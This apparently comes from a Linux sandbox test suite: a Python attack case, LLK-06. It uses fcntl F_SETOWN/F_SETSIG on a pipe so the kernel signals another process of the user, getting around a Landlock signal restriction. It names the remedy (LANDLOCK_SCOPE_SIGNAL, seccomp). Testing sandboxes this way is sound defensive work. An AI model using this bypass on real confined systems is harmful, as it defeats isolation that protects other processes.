# SPDX-License-Identifier: MIT
"""Goal:  another process of the user is signalled, though the restricted one may not send signals.
Means: fcntl(2). A pipe that is ready signals its owner: set the owner to the other process, the
       signal to any, and write a byte. It is the kernel that sends: the scope must count there too.
"""

import fcntl
import os
import signal

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        reader, writer = os.pipe()
        fcntl.fcntl(reader, fcntl.F_SETSIG, signal.SIGUSR1)
        fcntl.fcntl(reader, fcntl.F_SETOWN, brief.decoy or brief.worker)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writer, b"!")
    except OSError as why:
        return denied("a pipe and its owner", why)
    return DONE


ATTACK = {
    "effect": "another process of the same user is signalled",
    "means": "fcntl(2): the kernel sends the signal, to the owner of a pipe",
    "oracle": "bystander",
    "id": "LLK-06",
    "attack_id": "T1489, CWE-693",
    "remedy": "LANDLOCK_SCOPE_SIGNAL; seccomp on the commands of fcntl(2)",
    "refs": ["landlock(7)", "fcntl(2), F_SETOWN", "Linux 6.12, Landlock ABI 6"],
    "run": run,
}
